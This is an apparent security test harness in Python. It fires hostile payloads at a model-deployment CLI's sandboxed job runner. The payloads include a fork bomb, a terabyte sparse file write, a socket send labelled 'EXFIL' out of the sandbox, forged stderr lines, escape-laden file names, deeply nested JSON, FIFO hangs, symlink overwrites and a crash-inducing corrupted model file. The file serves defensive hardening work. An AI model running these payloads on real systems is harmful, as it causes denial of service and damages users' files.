def _grandchild_kill(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    arch = arch_file(d, GRANDCHILD + "print('SLEEPING', flush=True)\ntime.sleep(60)\n", {})

    def kill_cli(line: str, proc) -> bool:
        if "SLEEPING" in line:
            os.kill(proc.pid, signal.SIGKILL)
            return True
        return False
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch)], bound=120, on_err_line=kill_cli)
    found = ctx.leaks(d, tag, tmp=False, grace=5.0)
    if not run.killed_by_us:
        found += judge(run)
    return Outcome("", "", found, run.seconds, "CLI killed with SIGKILL" if run.killed_by_us else message(run), run.rc)


@attempt("outliving the app", "a fork bomb (2048 processes)")
def _fork_bomb(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
pids = []
for i in range(2048):
    try:
        pids.append(os.posix_spawn("/bin/sleep", ["sleep", "30"], os.environ))
    except OSError as e:
        print("spawn refused", e, flush=True)
        break
print("FORKS", len(pids), flush=True)
for p in pids:
    try:
        os.kill(p, 9); os.waitpid(p, 0)
    except OSError:
        pass
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {}))], bound=180)
    n = _figure(run.err, "FORKS")
    found = [("leak", "no cap on processes: 2048 spawned")] if n == 2048 else []
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, f"processes spawned: {n}", run.rc)


@attempt("outliving the app", "a 1 TiB (sparse) file write")
def _big_file(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
import signal, tempfile, resource
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
path = os.path.join(tempfile.gettempdir(), "big")
try:
    with open(path, "wb") as f:
        f.seek(2 ** 40)
        f.write(b"x")
    print("FSIZE-UNCAPPED", resource.getrlimit(resource.RLIMIT_FSIZE), flush=True)
except OSError as e:
    print("FSIZE-CAPPED", e, flush=True)
finally:
    try:
        os.unlink(path)
    except OSError:
        pass
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {}))], bound=120)
    found = [("leak", "no cap on file size: a 1 TiB file was written")] if "FSIZE-UNCAPPED" in run.err else []
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, _grep(run.err, "fsize-"), run.rc)


@attempt("outliving the app", "address space beyond what is free")
def _address_space(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_AS)
info = {l.split(":")[0]: int(l.split()[1]) * 1024 for l in open("/proc/meminfo") if l.split()[1].isdigit()}
vm = next(int(l.split()[1]) * 1024 for l in open("/proc/self/status") if l.startswith("VmSize:"))
free = info.get("MemAvailable", 0) + info.get("SwapFree", 0)
print("ASLIMIT", soft, vm, free, flush=True)
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {}))], bound=120)
    line = _grep(run.err, "aslimit").split()
    found, note = [], "no figures"
    if len(line) >= 4:
        soft, vm, free = (int(v) for v in line[-3:])
        room = "unlimited" if soft < 0 else f"{(soft - vm) / 2**30:.1f} GiB"
        note = f"address space left to the job: {room}; free: {free / 2**30:.1f} GiB"
        if soft < 0 or soft - vm > free + (512 << 20):
            found.append(("leak", f"the job may reserve more than is free ({note})"))
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, note, run.rc)


def _figure(text: str, word: str) -> int | None:
    for line in text.splitlines():
        parts = line.split()
        if word in parts and parts.index(word) + 1 < len(parts) and parts[parts.index(word) + 1].isdigit():
            return int(parts[parts.index(word) + 1])
    return None


# ---- a socket out
@attempt("socket", "socketpair + sendto(path) to a datagram socket outside")
def _socket_out(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    path = d / "log.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    listener.bind(str(path))
    listener.setblocking(False)
    payload = '''
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
for how in ("sendto", "sendmsg"):
    try:
        if how == "sendto":
            a.sendto(b"EXFIL " + how.encode(), PATH)
        else:
            a.sendmsg([b"EXFIL " + how.encode()], [], 0, PATH)
        print("sent with", how, flush=True)
    except OSError as e:
        print(how, "refused", e, flush=True)
'''
    try:
        run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {"PATH": str(path)}))], bound=120)
        got = []
        while True:
            try:
                got.append(listener.recv(4096).decode(errors="replace"))
            except BlockingIOError:
                break
    finally:
        listener.close()
    found = [("side effect", f"data received outside the fence: {', '.join(got)}")] if got else []
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- the watchdog
@attempt("watchdog", "half a result frame, then sleep (--timeout 10)")
def _half_frame(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
for fd in pipes():
    os.write(fd, struct.pack("!i", 4096) + b'{"$tuple": ["res')
time.sleep(120)
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {})), "--timeout", "10"], bound=35,
                  env_extra={"DEPLOYSTUDIO_JOB_STALL_SECONDS": "5"})
    return Outcome("", "", judge(run, timeout=10) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("watchdog", "progress at 100 Hz (--timeout 10)")
def _progress_flood(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
from app.safety import wire
data = wire.dumps(("progress", "busy", 0.5))
end = time.monotonic() + 90
while time.monotonic() < end:
    frame(data)
    time.sleep(0.01)
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {})), "--timeout", "10"], bound=35,
                  env_extra={"DEPLOYSTUDIO_JOB_STALL_SECONDS": "5"})
    return Outcome("", "", judge(run, timeout=10) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- terminal escapes from plain files
@attempt("terminal escapes", "inspect: ONNX names, producer, metadata")
def _esc_inspect(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, ["inspect", ctx.base / "names.onnx"], bound=120)
    return Outcome("", "", judge(run, escapes=True) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("terminal escapes", "inspect: ONNX op type and domain")
def _esc_optype(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, ["inspect", ctx.base / "optype.onnx"], bound=120)
    return Outcome("", "", judge(run, escapes=True) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("terminal escapes", "evaluate: a failed row's file name")
def _esc_evaluate(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    bad = d / f"{HOSTILE}.onnx"
    bad.write_bytes(b"\x08\x07not an onnx model")
    run = ctx.cli(d, tag, ["evaluate", *ctx.model_args(), "--data", ctx.base / "data", bad], bound=150)
    return Outcome("", "", judge(run, escapes=True) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


def _bench_json(ctx: Ctx, rows: list) -> dict:
    return {"machine": {"cpu": ctx.machine.get("cpu"), "isa": ctx.machine.get("isa")}, "results": rows}


@attempt("terminal escapes", "targets --measured: names and file name")
def _esc_targets(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    runs = d / "runs"
    runs.mkdir()
    rows = [{"name": f"model{HOSTILE}", "runtime": "onnxruntime", "precision": "fp32", "p50_ms": 1.5,
             "speedup_vs_baseline": 2.0, "cosine": 1.0, "batch": 1, "artifact": f"a{HOSTILE}.onnx"}]
    (runs / f"bench{HOSTILE}.json").write_text(json.dumps(_bench_json(ctx, rows)))
    run = ctx.cli(d, tag, ["targets", "--measured", runs], bound=120)
    return Outcome("", "", judge(run, escapes=True) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("terminal escapes", "convert: warnings about a hostile ONNX")
def _esc_convert(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, ["convert", ctx.base / "names.onnx", "--to", "onnx", "--precision", "fp16",
                           "--out", d / "out"], bound=150)
    return Outcome("", "", judge(run, escapes=True) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("terminal escapes", "job output with embedded newlines (lines without job:)")
def _esc_newlines(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
from app.safety import wire
frame(wire.dumps(("progress", "loading\\nFORGED-LINE from a progress report", None)))
print("ok\\x0bFORGED-LINE after a vertical tab\\x0cFORGED-LINE after a form feed", flush=True)
frame(wire.dumps(("error", "BadInput", "boom\\nFORGED-LINE: the model was verified by the fence\\n", None)))
os._exit(0)
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {}))], bound=120)
    forged = [ln for ln in run.err.splitlines() if ln.startswith("FORGED-LINE")]
    found = [("side effect", f"{len(forged)} line(s) the job forged on stderr: {forged[0][:60]!r}")] if forged else []
    return Outcome("", "", found + judge(run, escapes=True) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- the unfenced parent's memory and blocking reads
@attempt("parent memory and blocking reads", "a result of empty objects (peak RSS of the CLI)")
def _big_result(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
from app.safety import wire
limit = getattr(wire, "message_limit", lambda: wire.MAX_MESSAGE_BYTES)()
size = min(SIZE, int(limit * 0.9))
if hasattr(wire, "memory_budget"):  # the largest message of {} the decoder's budget admits
    size = min(size, int(wire.memory_budget() / (wire.DECODE_BYTES_PER_BYTE + wire.DECODE_BYTES_PER_VALUE / 3) * 0.95))
    limit = size
n = (size - 30) // 3
data = b'{"$tuple":["result",[' + b"{}," * (n - 1) + b'{}]]}'
print("MESSAGE", len(data), "LIMIT", limit, flush=True)
frame(data)
os._exit(0)
'''
    arch = arch_file(d, payload, {"SIZE": ctx.message_mb << 20})
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch), "--timeout", "120"], bound=200)
    size, limit = _figure(run.err, "MESSAGE"), _figure(run.err, "LIMIT")
    found, note = [], message(run)
    if size and limit and run.peak_kb and ctx.baseline_kb:
        growth = max(0, run.peak_kb - ctx.baseline_kb) * 1024
        at_limit = growth / size * limit
        note = (f"message {size / 2**20:.0f} MiB: CLI +{growth / 2**20:.0f} MiB ({growth / size:.0f}x); "
                f"at the {limit / 2**20:.0f} MiB limit ~{at_limit / 2**30:.1f} GiB")
        if at_limit > PARENT_MEMORY_BUDGET:
            found.append(("leak", f"parent memory unbounded: {note}"))
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, note, run.rc)


def empty_node_onnx(path: Path, size: int) -> None:
    """An ONNX model whose graph is ``size`` bytes of empty nodes (2 bytes each), written as raw protobuf."""
    def varint(n: int) -> bytes:
        out = b""
        while True:
            b, n = n & 0x7F, n >> 7
            out += bytes([b | (0x80 if n else 0)])
            if not n:
                return out
    graph = b"\x0a\x00" * (size // 2) + b"\x12\x01g"                       # node = 1 (empty), name = 2
    opset = b"\x10" + varint(17)                                           # OperatorSetId.version = 2
    model = (b"\x08" + varint(8)                                            # ir_version = 1
             + b"\x3a" + varint(len(graph)) + graph                         # graph = 7
             + b"\x42" + varint(len(opset)) + opset)                        # opset_import = 8
    path.write_bytes(model)


@attempt("parent memory and blocking reads", "an ONNX of empty nodes through convert (peak RSS)")
def _empty_nodes(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    model = d / "empty.onnx"
    size = ctx.onnx_mb << 20
    empty_node_onnx(model, size)
    run = ctx.cli(d, tag, ["convert", model, "--to", "onnx", "--out", d / "out", "--timeout", "120"], bound=200)
    found, note = [], message(run)
    if run.peak_kb and ctx.baseline_kb:
        growth = max(0, run.peak_kb - ctx.baseline_kb) * 1024
        note = f"{size >> 20} MiB of empty nodes: CLI +{growth / 2**20:.0f} MiB ({growth / size:.0f}x)"
        if growth > max(256 << 20, 8 * size):
            found.append(("leak", f"parent memory unbounded: {note}"))
    model.unlink()
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, note, run.rc)


def _fifo_attempt(ctx: Ctx, make_args: Callable[[Path], list]) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, make_args(d), bound=15)
    return Outcome("", "", judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("parent memory and blocking reads", "evaluate: a FIFO as the artifact's manifest")
def _fifo_evaluate(ctx: Ctx) -> Outcome:
    def args(d: Path) -> list:
        artifact = ctx.onnx_artifact(d)
        manifest = artifact.parent / "model.fp32.onnx.manifest.json"
        manifest.unlink()
        os.mkfifo(manifest)
        return ["evaluate", *ctx.model_args(), "--data", ctx.base / "data", artifact]
    return _fifo_attempt(ctx, args)


@attempt("parent memory and blocking reads", "pack: a FIFO as the artifact's manifest")
def _fifo_pack(ctx: Ctx) -> Outcome:
    def args(d: Path) -> list:
        artifact = ctx.onnx_artifact(d)
        manifest = artifact.parent / "model.fp32.onnx.manifest.json"
        manifest.unlink()
        os.mkfifo(manifest)
        return ["pack", artifact, "--out", d / "pack"]
    return _fifo_attempt(ctx, args)


@attempt("parent memory and blocking reads", "targets --measured: a FIFO as bench.json")
def _fifo_targets(ctx: Ctx) -> Outcome:
    def args(d: Path) -> list:
        os.mkfifo(d / "bench.json")
        return ["targets", "--measured", d / "bench.json"]
    return _fifo_attempt(ctx, args)


@attempt("parent memory and blocking reads", "report: a FIFO named as a manifest")
def _fifo_report(ctx: Ctx) -> Outcome:
    def args(d: Path) -> list:
        os.mkfifo(d / "model.onnx.manifest.json")
        return ["report", d / "model.onnx.manifest.json", "--out", d / "r.html"]
    return _fifo_attempt(ctx, args)


@attempt("parent memory and blocking reads", "inspect --trust-globals-from a FIFO")
def _fifo_trust(ctx: Ctx) -> Outcome:
    def args(d: Path) -> list:
        os.mkfifo(d / "globals.txt")
        return ["inspect", *ctx.model_args(), "--trust-globals-from", d / "globals.txt"]
    return _fifo_attempt(ctx, args)


# ---- example over the user's README
@attempt("example", "example DIR over an existing README.txt (no --overwrite)")
def _example_readme(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    folder = d / "mine"
    folder.mkdir()
    readme = folder / "README.txt"
    readme.write_text("the user's notes\n")
    run = ctx.cli(d, tag, ["example", folder, "--timeout", "150"], bound=200)
    found = [("side effect", "the user's README.txt was overwritten")] if readme.read_text() != "the user's notes\n" else []
    return Outcome("", "", found + judge(run, timeout=150) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("example", "example DIR --overwrite with README.txt a link to the user's file")
def _example_link(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    folder = d / "mine"
    folder.mkdir()
    victim = d / "victim.txt"
    victim.write_text("the user's file\n")
    (folder / "README.txt").symlink_to(victim)
    run = ctx.cli(d, tag, ["example", folder, "--overwrite", "--timeout", "150"], bound=200)
    found = [("side effect", "a file outside the folder was written through a link")] \
        if victim.read_text() != "the user's file\n" else []
    return Outcome("", "", found + judge(run, timeout=150) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- native crashes
# one byte of the .pte's flatbuffer set to a value (offset, value): the first of these aborts ExecuTorch's
# loader (SIGABRT in load_program/metadata) for the 4x3 Linear this script exports with ExecuTorch 1.x
# (found by trying every byte, each in a forked child); the file keeps its "ET12" identifier
PTE_DAMAGE = (418, 0x00)


def _damaged_pte(ctx: Ctx, d: Path) -> Path | None:
    pte = ctx.pte()
    if pte is None:
        return None
    data = bytearray(pte.read_bytes())
    offset, value = PTE_DAMAGE
    data[offset] = value
    out = d / "damaged.pte"
    out.write_bytes(bytes(data))
    return out


@attempt("native crash", "native-check of a .pte with one changed byte")
def _pte_native_check(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    pte = _damaged_pte(ctx, d)
    if pte is None:
        return Outcome("", "", [], 0, "skipped: no ExecuTorch export here")
    run = ctx.cli(d, tag, ["native-check", pte], bound=120)
    return Outcome("", "", judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("native crash", "inspect of a .pte with one changed byte")
def _pte_inspect(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    pte = _damaged_pte(ctx, d)
    if pte is None:
        return Outcome("", "", [], 0, "skipped: no ExecuTorch export here")
    run = ctx.cli(d, tag, ["inspect", pte], bound=120)
    return Outcome("", "", judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- unclear errors
@attempt("unclear errors", "result decoder: 1e400 as an array's shape (OverflowError)")
def _overflow(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
frame(b'{"$tuple":["result",{"$array":{"dtype":"float32","shape":[1e400],"data":""}}]}')
os._exit(0)
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {})), "--json"], bound=120)
    return Outcome("", "", judge(run, json_mode=True, expect=(1,)) + ctx.leaks(d, tag), run.seconds, message(run),
                   run.rc)


@attempt("unclear errors", "result decoder: a progress fraction of 10**400")
def _overflow_progress(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    payload = '''
frame(b'{"$tuple":["progress","x",1' + b"0" * 400 + b']}')
time.sleep(0.5)
'''
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, payload, {}))], bound=120)
    return Outcome("", "", judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


def _report(ctx: Ctx, manifest_text: str) -> Outcome:
    d, tag = ctx.attempt_dir()
    runs = d / "runs"
    runs.mkdir()
    (runs / "model.onnx.manifest.json").write_text(manifest_text)
    run = ctx.cli(d, tag, ["report", runs, "--out", d / "r.html", "--json"], bound=120)
    return Outcome("", "", judge(run, expect=(0, 2), json_mode=True) + ctx.leaks(d, tag), run.seconds, message(run),
                   run.rc)


@attempt("unclear errors", "report: a manifest nested 100,000 deep")
def _report_deep(ctx: Ctx) -> Outcome:
    return _report(ctx, '{"target": "onnx", "source": ' + "[" * 100000 + "]" * 100000 + "}")


@attempt("unclear errors", "report: a manifest of wrong types")
def _report_types(ctx: Ctx) -> Outcome:
    return _report(ctx, json.dumps({"format_version": "x", "artifact": 5, "files": "abc", "target": ["onnx"],
                                    "precision": {}, "status": 7, "source": [1, 2], "options": "none",
                                    "verification": "yes", "warnings": 3, "tools": [], "seconds": "slow"}))


@attempt("unclear errors", "targets --measured: a string where a number belongs")
def _targets_string(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    rows = [{"name": "a", "runtime": "onnxruntime", "precision": "fp32", "p50_ms": 1.0, "cosine": "high",
             "batch": "one", "speedup_vs_baseline": "fast"},
            {"name": "b", "runtime": "onnxruntime", "precision": "int8", "p50_ms": 0.5, "cosine": 0.999, "batch": 1}]
    (d / "bench.json").write_text(json.dumps(_bench_json(ctx, rows)))
    run = ctx.cli(d, tag, ["targets", "--measured", d / "bench.json"], bound=120)
    return Outcome("", "", judge(run, expect=(0, 2)) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("unclear errors", "targets --measured: a bench.json nested 100,000 deep")
def _targets_deep(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    (d / "bench.json").write_text('{"machine": {}, "results": ' + "[" * 100000 + "]" * 100000 + "}")
    run = ctx.cli(d, tag, ["targets", "--measured", d / "bench.json"], bound=120)
    return Outcome("", "", judge(run, expect=(0, 2)) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("unclear errors", "evaluate: a manifest of wrong types beside the artifact")
def _evaluate_types(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()

    def edit(m):
        m.update(recorded=[1, 2], build_isa="avx", options={"data": 5}, source="x", evaluation=[], precision=[])
    artifact = ctx.onnx_artifact(d, edit)
    run = ctx.cli(d, tag, ["evaluate", *ctx.model_args(), "--data", ctx.base / "data", artifact], bound=150)
    return Outcome("", "", judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("unclear errors", "main.py nosuch --json")
def _nosuch_json(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, ["nosuch", "--json"], bound=60)
    return Outcome("", "", judge(run, expect=(2,), json_mode=True) + ctx.leaks(d, tag), run.seconds, message(run),
                   run.rc)


def _closed_pipe(ctx: Ctx, args: list) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, args, bound=120, closed_stdout=True)
    found = judge(run, allow_signals=(signal.SIGPIPE,))
    found = [f for f in found if not f[1].startswith("exit ")]  # any exit status: the reader went away
    if "BrokenPipeError" in run.err or "Exception ignored" in run.err:
        found.append(("unclear error", "BrokenPipeError on stderr: " + _grep(run.err, "brokenpipe")))
    return Outcome("", "", found + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("unclear errors", "targets --json into a closed pipe (| head -3)")
def _pipe_targets(ctx: Ctx) -> Outcome:
    return _closed_pipe(ctx, ["targets", "--json"])


@attempt("unclear errors", "a failing inspect --json into a closed pipe (| head -3)")
def _pipe_inspect(ctx: Ctx) -> Outcome:
    return _closed_pipe(ctx, ["inspect", ctx.base / "no-such-model.onnx", "--json"])


# ---------------------------------------------------------------------------- round 2
def run_round2(ctx: Ctx, only: str | None) -> list[Outcome]:
    """``benchmarks/attack_channels.py`` of the attacked checkout, run by ``--python``; its rows as outcomes."""
    script = ctx.repo / "benchmarks" / "attack_channels.py"
    if not script.exists():
        return [Outcome("round 2", "attack_channels.py", [("unclear error", f"{script} is missing")])]
    d, tag = ctx.attempt_dir()
    report = d / "round2.json"
    argv = [ctx.python, str(script), "--json", str(report)] + (["--only", only] if only else [])
    started = time.monotonic()
    proc = subprocess.Popen(argv, cwd=ctx.repo, env=ctx.env(d, tag), stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, start_new_session=True, text=True)
    ctx.active.add(proc.pid)
    try:
        text, _ = proc.communicate(timeout=600)
    except subprocess.TimeoutExpired:
        with _suppress():
            os.killpg(proc.pid, signal.SIGKILL)
        text, _ = proc.communicate()
    ctx.active.discard(proc.pid)
    if not report.exists():
        return [Outcome("round 2", "attack_channels.py", [("unclear error", f"no report: {_last_line(text)}")],
                        time.monotonic() - started)]
    outcomes = []
    for r in json.loads(report.read_text())["rows"]:
        found = [("side effect", e) for e in r["side_effects"]]
        if r["hang"]:
            found.append(("hang", "still running after 120 s"))
        if not r["one_line"]:
            found.append(("unclear error", "more than one error line"))
        outcomes.append(Outcome(f"round 2: {r['family']}", r["payload"], found, r["seconds"],
                                (r.get("message") or "ok")[:140], r["exit"]))
    outcomes += [Outcome("round 2", "processes left", ctx.leaks(d, tag, tmp=False))] if tagged(tag) else []
    return outcomes


# ---------------------------------------------------------------------------- main
def totals_line(outcomes: list[Outcome]) -> str:
    counts = {c: sum(o.cls == c for o in outcomes) for c in CLASSES}
    return ", ".join(f"{n} {PLURAL[c] if n != 1 else c}" for c, n in counts.items())


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--repo", type=Path, default=HERE_REPO, help="the checkout whose main.py is attacked")
    p.add_argument("--python", default=DEFAULT_PYTHON if Path(DEFAULT_PYTHON).exists() else sys.executable)
    p.add_argument("--json", type=Path, help="write every attempt and the totals to this file")
    p.add_argument("--only", help="run the families whose name contains this (case-insensitive)")
    p.add_argument("--skip-round2", action="store_true", help="do not run benchmarks/attack_channels.py")
    p.add_argument("--list", action="store_true", help="list the families and attempts, run nothing")
    p.add_argument("--onnx-mb", type=int, default=16, help="size of the empty-node ONNX (issue: 40)")
    p.add_argument("--message-mb", type=int, default=48, help="size of the result of empty objects")
    p.add_argument("--verbose", action="store_true", help="print the tail of each CLI's stderr")
    args = p.parse_args(argv)
    global VERBOSE
    VERBOSE = args.verbose
    if args.list:
        for family, name, _ in ATTEMPTS:
            print(f"{family:34} {name}")
        print(f"{len(ATTEMPTS)} attempts in {len(families())} families (+ round 2)")
        return 0
    repo = args.repo.expanduser().resolve()
    if not (repo / "main.py").exists():
        p.error(f"--repo {repo}: no main.py")
    become_subreaper()
    root = Path(tempfile.mkdtemp(prefix="atk3-", dir="/tmp"))
    ctx = Ctx(repo, args.python, root, args.onnx_mb, args.message_mb)
    only = args.only.lower() if args.only else None
    started = time.monotonic()
    outcomes: list[Outcome] = []
    left: list[int] = []
    try:
        print(f"attacking {repo} with {args.python}; run folder {root}", flush=True)
        ctx.setup()
        print(f"setup done in {time.monotonic() - started:.0f} s (CLI baseline peak "
              f"{(ctx.baseline_kb or 0) / 1024:.0f} MiB)\n", flush=True)
        print(f"{'family':32} {'attempt':62} {'exit':>4} {'s':>5}  outcome")
        for family, name, fn in ATTEMPTS:
            if only and only not in family.lower():
                continue
            t0 = time.monotonic()
            try:
                o = fn(ctx)
            except Exception as e:  # noqa: BLE001 - a broken attempt is reported, the round goes on
                o = Outcome("", "", [("unclear error", f"the attempt itself failed: {type(e).__name__}: {e}")],
                            note="attempt failed")
            o.family, o.name = family, name
            o.seconds = o.seconds or time.monotonic() - t0
            outcomes.append(o)
            _print_row(o)
            kill_all(tagged(ctx.run_id))
        if not args.skip_round2 and (not only or "round" in only or "channel" in only):
            print("\nround 2 (benchmarks/attack_channels.py):", flush=True)
            for o in run_round2(ctx, None):
                outcomes.append(o)
                _print_row(o)
    finally:
        left = ctx.sweep()
        shutil.rmtree(root, ignore_errors=True)
    seconds = time.monotonic() - started
    r3 = [o for o in outcomes if not o.family.startswith("round 2")]
    r2 = [o for o in outcomes if o.family.startswith("round 2")]
    print("\nby family:")
    for family in dict.fromkeys(o.family for o in outcomes):
        rows = [o for o in outcomes if o.family == family]
        hits = [o for o in rows if o.cls != "clean"]
        print(f"  {family:40} {len(rows):2} attempts, {len(hits):2} hit" +
              (f"  ({'; '.join(f'{o.name}: {o.cls}' for o in hits)})" if hits else ""))
    print(f"\nround 3: {len(r3)} attempts: {totals_line(r3)}.")
    if r2:
        print(f"round 2: {len(r2)} payloads: {totals_line(r2)}.")
    print(f"processes left at the end: {len(left)}; {seconds:.0f} s; "
          f"Linux {platform.release()}, {ctx.machine.get('cpu') or platform.processor()}")
    if args.json:
        args.json.write_text(json.dumps({
            "repo": str(repo), "python": args.python, "seconds": round(seconds, 1),
            "totals": {c: sum(o.cls == c for o in r3) for c in CLASSES},
            "round2_totals": {c: sum(o.cls == c for o in r2) for c in CLASSES},
            "processes_left": len(left),
            "rows": [{"family": o.family, "attempt": o.name, "outcome": o.cls, "exit": o.exit,
                      "seconds": round(o.seconds, 1), "findings": [list(f) for f in o.findings], "note": o.note}
                     for o in outcomes]}, indent=2))
    return 1 if any(o.cls != "clean" for o in outcomes) or left else 0


def _print_row(o: Outcome) -> None:
    what = "; ".join(f"{c.upper()}: {t}" for c, t in o.findings) or f"clean ({o.note})"
    print(f"{o.family[:32]:32} {o.name[:62]:62} {str(o.exit):>4} {o.seconds:5.1f}  {what[:300]}", flush=True)


if __name__ == "__main__":
    raise SystemExit(main())
